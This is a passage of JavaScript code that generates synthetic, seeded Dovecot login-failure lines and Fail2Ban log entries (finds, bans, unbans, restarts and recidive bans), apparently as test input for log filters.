        add(t + tries + 2, `dovecot: ${pick(['imap', 'pop3'])}-login: Disconnected (auth failed, ${tries} attempts in ${tries * 2 + 2} secs): user=<${user}>, method=PLAIN, rip=${from}, lip=203.0.113.25, TLS, session=<${hex(16)}>`);
        break;
      }
      default: {
        add(t, `dovecot: ${pick(['imap', 'pop3'])}-login: ${pick(['Disconnected (no auth attempts in 0 secs)', 'Aborted login (no auth attempts in 2 secs)', 'Disconnected (disconnected before auth was ready, waited 0 secs)'])}: user=<>, rip=${ip}, lip=203.0.113.25, session=<${hex(16)}>`);
      }
    }
  }
  return `${tl.lines(count, syslogStamp, 'mx1').join('\n')}\n`;
}

/**
 * Fail2Ban's own log (`/var/log/fail2ban.log`, what the recidive jail reads) for a server whose jails
 * see the traffic above: `Found` for each failure, `Ban` at the fifth within ten minutes and `Unban`
 * ten minutes after (with, now and then, `already banned`, `Ignore … by ip`, and a restart that
 * restores bans), and recidive's own bans of repeat offenders, which its filter must not count.
 * Stamps are Fail2Ban's (`2026-03-02 00:00:01,123`, milliseconds rising within a second).
 */
export function generateFail2banLog(count, seed = 41) {
  const rnd = seededRandom(seed);
  const { int, pick, weighted, address } = tools(rnd);
  const jails = ['sshd', 'sshd', 'sshd', 'nginx-botsearch', 'postfix', 'dovecot'];
  const repeaters = Array.from({ length: 60 }, () => address(0.1));
  const out = [];
  const pid = 1000 + int(9000);
  let t = START;
  let millis = 0;
  let second = -1;
  const stamp = () => {
    millis = t === second ? Math.min(999, millis + 1 + int(60)) : int(200);
    second = t;
    const d = new Date(t * 1000);
    return `${d.getUTCFullYear()}-${pad2(d.getUTCMonth() + 1)}-${pad2(d.getUTCDate())} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())},${String(millis).padStart(3, '0')}`;
  };
  const log = (module, level, text) => out.push(`${stamp()} ${module.padEnd(24)}[${pid}]: ${level.padEnd(7)} ${text}`);
  const found = (jail, ip) => {
    const d = new Date(t * 1000);
    log('fail2ban.filter', 'INFO', `[${jail}] Found ${ip} - ${d.getUTCFullYear()}-${pad2(d.getUTCMonth() + 1)}-${pad2(d.getUTCDate())} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`);
  };
  const banned = new Map();
  const strikes = new Map();
  while (out.length < count) {
    t += rnd() < 0.4 ? 0 : int(4);
    for (const [key, until] of banned) {
      if (until > t) continue;
      banned.delete(key);
      const [jail, ip] = key.split(' ');
      log('fail2ban.actions', 'NOTICE', `[${jail}] Unban ${ip}`);
    }
    switch (weighted({ failure: 80, ignore: 3, restart: 0.05, recidive: 0.6 })) {
      case 'failure': {
        const jail = pick(jails);
        const ip = rnd() < 0.3 ? pick(repeaters) : address(0.1);
        found(jail, ip);
        const key = `${jail} ${ip}`;
        const n = (strikes.get(key) ?? 0) + 1;
        strikes.set(key, n);
        if (n >= 5) {
          strikes.delete(key);
          if (banned.has(key)) log('fail2ban.actions', 'WARNING', `[${jail}] ${ip} already banned`);
          else { banned.set(key, t + 600); log('fail2ban.actions', 'NOTICE', `[${jail}] Ban ${ip}`); }
        }
        break;
      }
      case 'ignore':
        log('fail2ban.filter', 'INFO', `[${pick(jails)}] Ignore 198.51.100.${20 + int(30)} by ip`);
        break;
      case 'restart':
        log('fail2ban.server', 'INFO', 'Shutdown in progress...');
        log('fail2ban.server', 'INFO', '--------------------------------------------------');
        log('fail2ban.server', 'INFO', 'Starting Fail2ban v1.0.2');
        for (const jail of new Set(jails)) log('fail2ban.jail', 'INFO', `Jail '${jail}' started`);
        for (const key of banned.keys()) {
          const [jail, ip] = key.split(' ');
          log('fail2ban.actions', 'NOTICE', `[${jail}] Restore Ban ${ip}`);
        }
        break;
      default: {
        // recidive's own failures and bans (its filter leaves out its own jail's lines)
        const ip = pick(repeaters);
        found('recidive', ip);
        if (rnd() < 0.2) log('fail2ban.actions', 'NOTICE', `[recidive] Ban ${ip}`);
      }
    }
  }
  return `${out.slice(0, count).join('\n')}\n`;
}
